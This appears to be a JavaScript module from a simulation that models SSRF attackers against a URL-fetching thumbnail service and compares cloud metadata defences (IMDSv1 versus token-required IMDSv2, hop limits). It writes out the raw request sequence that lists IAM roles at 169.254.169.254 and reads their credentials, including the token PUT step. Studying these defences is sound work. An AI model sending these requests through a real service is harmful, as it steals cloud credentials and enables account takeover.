// @ts-check
// A thumbnail service that fetches whatever address it is given, and who makes use of it. Each attack is requests to the core;
// what came of it is read from the answers.

import { latin1, readAnswer } from '../engine.js';

const HOST = 'HTTP/1.1\r\nHost: 169.254.169.254\r\n';
const ROLES = '/latest/meta-data/iam/security-credentials/';

/** The attackers, weakest first: by what they make the service send. @type {readonly { id: string, stages: readonly { kind: string }[], puts: boolean, fields: boolean }[]} */
export const ATTACKERS = [
  { id: 'get', stages: [{ kind: 'getter' }], puts: false, fields: false },
  { id: 'method', stages: [{ kind: 'caller' }], puts: true, fields: false },
  { id: 'proxy', stages: [{ kind: 'relay' }, { kind: 'proxy' }], puts: true, fields: true },
  { id: 'fields', stages: [{ kind: 'relay' }], puts: true, fields: true },
];

/** @typedef {{ exchange: import('../../../pkg/index.d.ts').Exchange | null }} Asked */

/**
 * Tries a session, where the attacker can, and version 1.
 * @param {typeof ATTACKERS[number]} attacker
 * @param {(request: string, stages: readonly { kind: string }[]) => Asked} send
 * @param {boolean} contained whether the service runs in a container, a bridge away from the host
 * @returns {{ leaked: string | null, by: 'v1' | 'v2' | null }} the credentials, and how they came
 */
export function attack(attacker, send, contained) {
  const stages = [...attacker.stages.slice(0, 1), ...(contained ? [{ kind: 'bridge' }] : []), ...attacker.stages.slice(1)];
  const ask = (/** @type {string} */ line, /** @type {string} */ fields) => {
    const { exchange } = send(`${line} ${HOST}${fields}\r\n`, stages);
    const answer = readAnswer(exchange);
    return exchange?.status === 200 && answer ? latin1(answer.body) : null;
  };
  const steal = (/** @type {string} */ fields) => {
    const role = ask(`GET ${ROLES}`, fields)?.split('\n')[0];
    return role ? ask(`GET ${ROLES}${role}`, fields) : null;
  };
  if (attacker.puts) {
    const token = ask('PUT /latest/api/token', attacker.fields ? 'X-aws-ec2-metadata-token-ttl-seconds: 21600\r\n' : '');
    const leaked = token && attacker.fields ? steal(`X-aws-ec2-metadata-token: ${token}\r\n`) : null;
    if (leaked) return { leaked, by: 'v2' };
  }
  const leaked = steal('');
  return { leaked, by: leaked ? 'v1' : null };
}

/** The options that the table compares. */
export const DEFENCES = /** @type {const} */ ([
  { http_tokens: 'optional', http_put_response_hop_limit: 1 },
  { http_tokens: 'required', http_put_response_hop_limit: 2 },
  { http_tokens: 'required', http_put_response_hop_limit: 1 },
]);
